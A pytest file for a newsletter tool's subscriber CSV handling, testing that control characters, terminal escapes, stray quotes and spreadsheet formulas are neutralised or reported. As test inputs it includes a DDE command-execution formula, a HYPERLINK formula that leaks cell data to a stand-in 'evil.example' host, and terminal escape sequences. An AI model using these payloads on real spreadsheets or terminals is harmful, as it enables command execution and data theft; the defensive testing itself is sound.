"""Hostile text in subscribers.csv (issue 8): one stranger's email must never stop the newsletter.

Control and invisible characters, stray quotes and spreadsheet formulas, as they reach the file from mail
requests, from `subscribers add`, from imports, or from an editor or an older version of the tool. Every test
asserts the exact outcome: the messages, the rows read, and the bytes written.
"""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner

from newsletter.cli import cli
from newsletter.errors import SubscriberError
from newsletter.subscribers.csvbytes import holds_unsafe
from newsletter.subscribers.csvfile import cell_text
from newsletter.subscribers.csvrecords import MAX_RECORD_LINES
from newsletter.subscribers.imports import export_csv, import_subscribers
from newsletter.subscribers.listfile import read_subscribers
from newsletter.subscribers.store import add_subscriber, editing, remove_subscriber

HEADER = "email,name,status,joined_at,source,consent,updated_at,reason\n"
NOW = datetime(2015, 3, 20, 9, 30, tzinfo=UTC)
STAMP = "2015-03-20T09:30:00Z"
KEPT = "an invisible character no subscriber list needs: retype that cell (the row is kept)"
QUOTE = (
    "the quote that opens the 'name' cell is not closed on this line: the row is read as this one line, the "
    'quote as text; close the quote, or double it ("") if it belongs to the text'
)


def clock() -> datetime:
    return NOW


def write(path: Path, text: str) -> Path:
    path.write_bytes(text.encode("utf-8"))
    return path


# --- item 1: a control character in one row stops nothing -------------------------------------------------------

# What an older version (or an editor's paste) could leave in a row: each class of invisible character.
INVISIBLE_ROWS = (
    "a@example.org,Asha,active,,,,,\n"  # line 2
    "eve@example.org,Eve\x00,active,,inbox,,,\n"  # 3: a NUL from an encoded-word display name
    "esc@example.org,\x1b]0;pwned\x07Mallory,active,,,,,\n"  # 4: a terminal escape (OSC ... BEL)
    "nel@example.org,Ne\x85l,active,,,,,\n"  # 5: a C1 control (NEL), a line break to str.splitlines
    "ls@example.org,Line\u2028Sep,unsubscribed,,,,,\n"  # 6: LINE SEPARATOR
    "bidi@example.org,Bob,active,,,,,\u202eevil\n"  # 7: a bidi override in the reason
    "del@example.org,Del\x7f,pending,,,,,\n"  # 8: DEL
    "\ufeffbom@example.org,Bom,active,,,,,\n"  # 9: a BOM where two files were pasted together
    "n\x00@example.org,N,active,,,,,\n"  # 10: a NUL in the address itself
    "z@example.org,Z,active,,,,,\n"  # 11
)


def test_a_row_with_a_control_character_is_reported_and_every_other_row_works(tmp_path: Path) -> None:
    path = write(tmp_path / "subscribers.csv", HEADER + INVISIBLE_ROWS)
    subscribers = read_subscribers(path)
    assert subscribers.problems == [
        f"{path}:3: the 'name' cell holds U+0000 NULL, {KEPT}.",
        f"{path}:4: the 'name' cell holds U+001B ESCAPE, {KEPT}.",
        f"{path}:5: the 'name' cell holds U+0085 NEXT LINE, {KEPT}.",
        f"{path}:6: the 'name' cell holds U+2028 LINE SEPARATOR, {KEPT}.",
        f"{path}:7: the 'reason' cell holds U+202E RIGHT-TO-LEFT OVERRIDE, {KEPT}.",
        f"{path}:8: the 'name' cell holds U+007F DELETE, {KEPT}.",
        f"{path}:9: the 'email' cell holds U+FEFF ZERO WIDTH NO-BREAK SPACE, {KEPT}.",
        f"{path}:9: '\ufeffbom@example.org' is not a valid email address (The email address contains unsafe "
        "characters: ZERO WIDTH NO-BREAK SPACE.): correct it or delete the row.",
        f"{path}:10: the 'email' cell holds U+0000 NULL, {KEPT}.",
        f"{path}:10: 'n\x00@example.org' is not a valid email address (The email address contains invalid "
        "characters before the @-sign: U+0000.): correct it or delete the row.",
    ]
    # The rows stay valid (an unsubscribed one stays unsubscribed); a name is read as one clean line.
    assert [(row.email, row.name, row.status, row.line, row.valid) for row in subscribers] == [
        ("a@example.org", "Asha", "active", 2, True),
        ("eve@example.org", "Eve", "active", 3, True),
        ("esc@example.org", "]0;pwned Mallory", "active", 4, True),
        ("nel@example.org", "Ne l", "active", 5, True),
        ("ls@example.org", "Line Sep", "unsubscribed", 6, True),
        ("bidi@example.org", "Bob", "active", 7, True),
        ("del@example.org", "Del", "pending", 8, True),
        ("\ufeffbom@example.org", "Bom", "active", 9, False),
        ("n\x00@example.org", "N", "active", 10, False),
        ("z@example.org", "Z", "active", 11, True),
    ]
    assert [row.email for row in subscribers.active()] == [
        "a@example.org",
        "eve@example.org",
        "esc@example.org",
        "nel@example.org",
        "bidi@example.org",
        "z@example.org",
    ]


def test_writes_keep_a_row_with_a_control_character_byte_for_byte(tmp_path: Path) -> None:
    original = HEADER + INVISIBLE_ROWS
    path = write(tmp_path / "subscribers.csv", original)
    assert add_subscriber(path, "new@example.org", "New", now=clock) == "added new@example.org (active)"
    new_row = f"new@example.org,New,active,{STAMP},cli,,{STAMP},\n"
    assert path.read_bytes() == (original + new_row).encode()
    assert remove_subscriber(path, "z@example.org", now=clock) == "z@example.org is now unsubscribed (was active)"
    assert (
        path.read_bytes()
        == (
            original.replace(
                "z@example.org,Z,active,,,,,\n", f"z@example.org,Z,unsubscribed,,,,{STAMP},removed by the editor\n"
            )
            + new_row
        ).encode()
    )
    # `subscribers add` of an address already there still finds it, NUL in its row or not.
    assert add_subscriber(path, "EVE@example.org", now=clock) == "eve@example.org is already active (line 3)"


@pytest.mark.parametrize(
    "data",
    [
        b"\x00" * 100,
        "email,name\n".encode("utf-16-be"),
        b"SQLite format 3\x00\x10\x00\x01\x01",
        b"\x7fELF\x02\x01\x01",
        b"email,na\x1bme\nx@example.org,X\n",
    ],
)
def test_a_binary_file_is_still_refused_whole(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "subscribers.csv"
    path.write_bytes(data)
    with pytest.raises(SubscriberError) as caught:
        read_subscribers(path)
    assert str(caught.value) == (
        f"{path}:1: is not a CSV file (it holds binary data): save it from your spreadsheet as "
        "'CSV UTF-8 (comma delimited)'."
    )


@pytest.mark.parametrize(
    ("data", "found"),
    [
        (b"email\ta\r\nb\n", False),
        (b"\xef\xbb\xbfemail\n", False),  # the BOM that starts a file is no character of it
        (b"email\n\xef\xbb\xbfa\n", True),
        (b"a\x00", True),
        (b"a\x1b", True),
        (b"a\x7f", True),
        (b"\xc2\xa0 \xc2\xa9", False),  # NO-BREAK SPACE, COPYRIGHT SIGN
        (b"\xc2\xa0\xc2\x85", True),  # NEXT LINE
        ("\u2019 \u2014 \u2026".encode(), False),  # smart quote, dash, ellipsis
        ("\u2019\u2028".encode(), True),
        ("\u2066".encode(), True),
        ("\ufffd".encode(), False),
        ("\uffff".encode(), True),
        ("O\u2019Brien,\n".encode() * 10_001, False),  # so many that one regex pass looks
        ("O\u2019Brien,\n".encode() * 10_001 + "\u202e".encode(), True),
    ],
)
def test_the_byte_check_finds_every_invisible_character_and_nothing_else(data: bytes, found: bool) -> None:
    assert holds_unsafe(data) is found


def test_nothing_the_tool_writes_holds_a_control_character(tmp_path: Path) -> None:
    path = write(tmp_path / "subscribers.csv", HEADER + "a@example.org,A,active,,,,,\n")
    hostile = "  Eve\r\nContent-Type: text/html\u2028\u202e<h1>x\x00\x1b[2J\t\u0085\u2066 "
    assert add_subscriber(path, "b@example.org", hostile, now=clock) == "added b@example.org (active)"
    with editing(path) as subscribers:  # what `inbox` does with a mail request
        subscribers.add(
            "c@example.org", "pending", NOW, name="C\x00", source="inbox", consent='{"from": "x\u2028y"}',
            reason="request <id\r\n@x>",
        )  # fmt: skip
    assert remove_subscriber(path, "a@example.org", "by\x1b[31m phone\n", now=clock) == (
        "a@example.org is now unsubscribed (was active)"
    )
    assert path.read_text() == (
        HEADER + f"a@example.org,A,unsubscribed,,,,{STAMP},by [31m phone\n"
        f"b@example.org,Eve Content-Type: text/html <h1>x [2J,active,{STAMP},cli,,{STAMP},\n"
        f'c@example.org,C,pending,{STAMP},inbox,"{{""from"": ""x y""}}",{STAMP},request <id @x>\n'
    )


def test_an_import_writes_clean_names(tmp_path: Path) -> None:
    path = write(tmp_path / "subscribers.csv", HEADER)
    source = write(
        tmp_path / "export.csv",
        'Email,Name\nq@example.org,"Quoted\r\nName"\nr@example.org,R\x00\u202eeve\n',
    )
    report = import_subscribers(path, source, now=clock)
    assert report.lines == [
        "line 2: q@example.org: added (active)",
        f"line 4: the 'Name' cell holds U+0000 NULL, {KEPT}",
        "line 4: r@example.org: added (active)",
    ]
    consent = '"{""file"": ""export.csv"", ""imported_from"": ""csv"", ""line"": %d}"'
    assert path.read_text() == (
        HEADER + f"q@example.org,Quoted Name,active,{STAMP},import:csv,{consent % 2},{STAMP},\n"
        f"r@example.org,R eve,active,{STAMP},import:csv,{consent % 4},{STAMP},\n"
    )


# --- item 9: an unbalanced quote is a problem of its own row ---------------------------------------------------


def test_a_stray_quote_no_longer_merges_two_readers(tmp_path: Path) -> None:
    path = write(
        tmp_path / "subscribers.csv",
        "email,name,status\n"
        'a@example.org,"Asha,active\n'  # line 2: the quote never closes
        "b@example.org,B,active\n"
        'c@example.org,"Chen",active\n'  # line 4: csv would have closed line 2's quote here
        'd@example.org,Dev",active\n'  # a quote inside a cell is text
        'e@example.org,"Multi\nline",active\n',  # 6-7: a quoted cell may span lines
    )
    subscribers = read_subscribers(path)
    assert subscribers.problems == [f"{path}:2: {QUOTE}."]
    assert [(row.email, row.name, row.status, row.line, row.valid) for row in subscribers] == [
        ("a@example.org", '"Asha', "active", 2, True),
        ("b@example.org", "B", "active", 3, True),
        ("c@example.org", "Chen", "active", 4, True),
        ("d@example.org", 'Dev"', "active", 5, True),
        ("e@example.org", "Multi line", "active", 6, True),
    ]


def test_a_quote_closed_many_rows_later_swallows_none_of_them(tmp_path: Path) -> None:
    path = write(
        tmp_path / "subscribers.csv",
        'email,name,status\na@example.org,"Asha,active\nb@example.org,B,active\nc@example.org,Chen",active\n',
    )
    subscribers = read_subscribers(path)
    assert subscribers.problems == [f"{path}:2: {QUOTE}."]
    assert [(row.email, row.name, row.status) for row in subscribers.active()] == [
        ("a@example.org", '"Asha', "active"),
        ("b@example.org", "B", "active"),
        ("c@example.org", 'Chen"', "active"),
    ]


def test_a_stray_quote_in_a_big_file_is_one_row_s_problem(tmp_path: Path) -> None:
    # Before: "field larger than field limit (131072)" on every command, the quote swallowing the rest.
    rows = [f"r{n}@example.org,Reader {n},active\n" for n in range(20_000)]
    rows[4] = 'x@example.org,"X,active\n'
    path = write(tmp_path / "subscribers.csv", "email,name,status\n" + "".join(rows))
    subscribers = read_subscribers(path)
    assert subscribers.problems == [f"{path}:6: {QUOTE}."]
    active = subscribers.active()
    assert len(active) == 20_000
    assert (active[4].email, active[4].name, active[4].line) == ("x@example.org", '"X', 6)
    assert (active[-1].email, active[-1].line) == ("r19999@example.org", 20_001)


def test_a_quoted_cell_of_more_than_the_line_limit_is_a_stray_quote(tmp_path: Path) -> None:
    note = "\n".join(f"note line {n}" for n in range(MAX_RECORD_LINES + 1))
    path = write(tmp_path / "subscribers.csv", f'email,name,status,notes\na@example.org,A,active,"{note}"\n')
    subscribers = read_subscribers(path)
    assert subscribers.problems[0] == (
        f"{path}:2: the quote that opens the 'notes' cell is not closed on this line: the row is read as this one "
        'line, the quote as text; close the quote, or double it ("") if it belongs to the text.'
    )
    # Each following line is read as a row of its own: reported, kept, never mailed.
    assert subscribers.problems[1] == (
        f"{path}:3: 'note line 1' is not a valid email address (An email address must have an @-sign.): correct "
        "it or delete the row."
    )
    assert subscribers.problems[-1] == (
        f"{path}:{MAX_RECORD_LINES + 2}: 'note line {MAX_RECORD_LINES}\"' is not a valid email address (An email "
        "address must have an @-sign.): correct it or delete the row."
    )
    assert len(subscribers.problems) == MAX_RECORD_LINES + 1
    assert [row.email for row in subscribers.active()] == ["a@example.org"]
    # One line fewer is a cell of many lines, as a spreadsheet writes it.
    shorter = "\n".join(f"note line {n}" for n in range(MAX_RECORD_LINES))
    path.write_text(f'email,name,status,notes\na@example.org,A,active,"{shorter}"\nb@example.org,B,active\n')
    subscribers = read_subscribers(path)
    assert subscribers.problems == []
    assert [(row.email, row.line, row.cells["notes"]) for row in subscribers] == [
        ("a@example.org", 2, shorter),
        ("b@example.org", MAX_RECORD_LINES + 2, ""),
    ]


def test_rows_around_a_stray_quote_keep_their_bytes_and_the_row_is_repaired_when_changed(tmp_path: Path) -> None:
    original = HEADER + 'a@example.org,"Asha,active,,,,,\nb@example.org,B,active,,,,,\nc@example.org,"C'
    path = write(tmp_path / "subscribers.csv", original)
    assert add_subscriber(path, "d@example.org", now=clock) == "added d@example.org (active)"
    new_row = f"d@example.org,,active,{STAMP},cli,,{STAMP},\n"
    assert path.read_text() == original + "\n" + new_row
    assert [row.email for row in read_subscribers(path)] == [
        "a@example.org",
        "b@example.org",
        "c@example.org",
        "d@example.org",
    ]
    # A command that changes the row writes it back as it was read: the stray quote becomes text.
    remove_subscriber(path, "a@example.org", "asked", now=clock)
    assert path.read_text() == (
        HEADER + f'a@example.org,"""Asha",unsubscribed,,,,{STAMP},asked\n'
        'b@example.org,B,active,,,,,\nc@example.org,"C\n' + new_row
    )


def test_an_import_file_with_a_stray_quote_imports_every_reader(tmp_path: Path) -> None:
    path = write(tmp_path / "subscribers.csv", HEADER)
    source = write(tmp_path / "list.csv", 'email,name\na@example.org,"Asha\nb@example.org,B\n')
    report = import_subscribers(path, source, now=clock)
    assert report.lines == [
        f"line 2: {QUOTE}",
        "line 2: a@example.org: added (active)",
        "line 3: b@example.org: added (active)",
    ]
    assert [(row.email, row.name) for row in read_subscribers(path)] == [
        ("a@example.org", '"Asha'),
        ("b@example.org", "B"),
    ]


def test_a_stray_quote_in_a_plain_list_or_before_a_row_of_an_address_alone(tmp_path: Path) -> None:
    path = write(tmp_path / "subscribers.csv", HEADER)
    source = write(tmp_path / "list.txt", '"a@example.org\nb@example.org\no\'brien@example.ie"\n')
    assert import_subscribers(path, source, now=clock).lines == [
        "line 1: the quote that opens the cell in column 1 is not closed on this line: the row is read as this "
        'one line, the quote as text; close the quote, or double it ("") if it belongs to the text',
        "line 1: '\"a@example.org' is not a valid email address (An email address must have an @-sign.): skipped",
        "line 2: b@example.org: added (active)",
        "line 3: 'o'brien@example.ie\"' is not a valid email address (The part after the @-sign contains invalid "
        "characters: '\"'.): skipped",
    ]
    # A spreadsheet trims the empty cells of a row that has only its address.
    write(path, 'email,name,status\na@example.org,"Asha,active\nb@example.org\nc@example.org,C",active\n')
    assert [(row.email, row.line) for row in read_subscribers(path)] == [
        ("a@example.org", 2),
        ("b@example.org", 3),
        ("c@example.org", 4),
    ]


def test_a_stray_quote_in_the_header_is_reported_at_line_1(tmp_path: Path) -> None:
    path = write(tmp_path / "subscribers.csv", 'email,"name,status\na@example.org,A,active\n')
    subscribers = read_subscribers(path)
    assert subscribers.problems == [
        f"{path}:1: the quote that opens the cell in column 2 is not closed on this line: the row is read as this "
        'one line, the quote as text; close the quote, or double it ("") if it belongs to the text.'
    ]
    assert [(row.email, row.status) for row in subscribers.active()] == [("a@example.org", "active")]


# --- item 12: no cell the tool writes is a formula ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(1,1)", '"\'@SUM(1,1)"'),
        ("\t=1+1", "'=1+1"),
        ("\r=1+1", "'=1+1"),
        ("\n=1+1", "'=1+1"),
        ("\u00a0=1+1", "'=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20x", "'\uff20x"),
        ("'=already", "'=already"),
        ("Meera = Iyer", "Meera = Iyer"),
    ],
)
def test_a_name_never_becomes_a_formula(tmp_path: Path, name: str, cell: str) -> None:
    path = write(tmp_path / "subscribers.csv", HEADER)
    add_subscriber(path, "a@example.org", name, now=clock)
    assert path.read_text() == HEADER + f"a@example.org,{cell},active,{STAMP},cli,,{STAMP},\n"


def test_every_cell_from_outside_is_neutralised_the_same_way(tmp_path: Path) -> None:
    path = write(tmp_path / "subscribers.csv", HEADER + "a@example.org,A,active,,,,,\n")
    with editing(path) as subscribers:
        subscribers.add(
            "b@example.org", "pending", NOW, name="=cmd|' /C calc'!A0", source="@source", consent="-consent",
            reason="+reason",
        )  # fmt: skip
    remove_subscriber(path, "a@example.org", '=HYPERLINK("http://evil.example/?"&A1,"x")', now=clock)
    assert path.read_text() == (
        HEADER + f'a@example.org,A,unsubscribed,,,,{STAMP},"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"\n'
        f"b@example.org,'=cmd|' /C calc'!A0,pending,{STAMP},'@source,'-consent,{STAMP},'+reason\n"
    )


def test_the_editor_s_own_formulas_stay_byte_for_byte(tmp_path: Path) -> None:
    original = "email,name,status,notes\na@example.org,=Editor,active,=SUM(1;2)\nb@example.org,B,active,+1\n"
    path = write(tmp_path / "subscribers.csv", original)
    add_subscriber(path, "c@example.org", "-C", now=clock)
    remove_subscriber(path, "b@example.org", now=clock)
    assert path.read_text() == (
        "email,name,status,notes,joined_at,source,consent,updated_at,reason\n"
        "a@example.org,=Editor,active,=SUM(1;2)\n"
        f"b@example.org,B,unsubscribed,+1,,,,{STAMP},removed by the editor\n"
        f"c@example.org,'-C,active,,{STAMP},cli,,{STAMP},\n"
    )
    # An export goes to other people's spreadsheets: there every cell is neutralised.
    assert export_csv(read_subscribers(path)) == (
        "email,name,status,joined_at,source,consent,updated_at,reason,notes\n"
        "a@example.org,'=Editor,active,,,,,,'=SUM(1;2)\n"
        f"b@example.org,B,unsubscribed,,,,{STAMP},removed by the editor,'+1\n"
        f"c@example.org,'-C,active,{STAMP},cli,,{STAMP},,\n"
    )


def test_an_address_that_would_start_a_formula_is_refused_everywhere(tmp_path: Path) -> None:
    path = write(tmp_path / "subscribers.csv", HEADER + "-x@example.org,X,active,,,,,\n")
    with pytest.raises(SubscriberError) as caught:
        add_subscriber(path, "=cmd@example.org", now=clock)
    assert str(caught.value) == (
        "'=cmd@example.org' is not a valid email address (The email address starts with '=', which a "
        "spreadsheet reads as a formula; no mailbox in use starts so.): check it."
    )
    assert read_subscribers(path).problems == [
        f"{path}:2: '-x@example.org' is not a valid email address (The email address starts with '-', which a "
        "spreadsheet reads as a formula; no mailbox in use starts so.): correct it or delete the row."
    ]
    source = write(tmp_path / "list.txt", "+1@example.org\nok@example.org\n")
    assert import_subscribers(path, source, now=clock).lines == [
        "line 1: '+1@example.org' is not a valid email address (The email address starts with '+', which a "
        "spreadsheet reads as a formula; no mailbox in use starts so.): skipped",
        "line 2: ok@example.org: added (active)",
    ]


def test_cell_text_is_idempotent_and_caps_its_length() -> None:
    assert cell_text(cell_text("=x")) == "'=x"
    assert cell_text("a" * 40_000) == "a" * 32_000


# --- item 15: nothing from a cell reaches the terminal raw ------------------------------------------------------


def test_subscribers_list_prints_cells_escaped(tmp_path: Path) -> None:
    (tmp_path / "newsletter.toml").write_text('[newsletter]\nname = "T"\nfrom_email = "editor@example.org"\n')
    write(
        tmp_path / "subscribers.csv",
        "email,name,status\n"
        "a@example.org,\x1b[2J\x1b[31mMallory,active\n"
        "\x1b]8;;http://evil\x07@example.org,X,active\n",
    )
    result = CliRunner().invoke(cli, ["--config", str(tmp_path / "newsletter.toml"), "subscribers", "list"])
    assert result.exit_code == 0
    assert result.stdout == (
        "a@example.org\t[2J [31mMallory\tactive\n\\x1b]8;;http://evil\\x07@example.org\tX\tinvalid\n"
    )
    path = tmp_path / "subscribers.csv"
    assert result.stderr == (
        f"warning: {path}:2: the 'name' cell holds U+001B ESCAPE, {KEPT}.\n"
        f"warning: {path}:3: the 'email' cell holds U+001B ESCAPE, {KEPT}.\n"
        f"warning: {path}:3: '\\x1b]8;;http://evil\\x07@example.org' is not a valid email address (The email "
        "address contains invalid characters before the @-sign: ':', ';', ']', U+0007, U+001B.): correct it or delete "
        "the row.\n"
    )
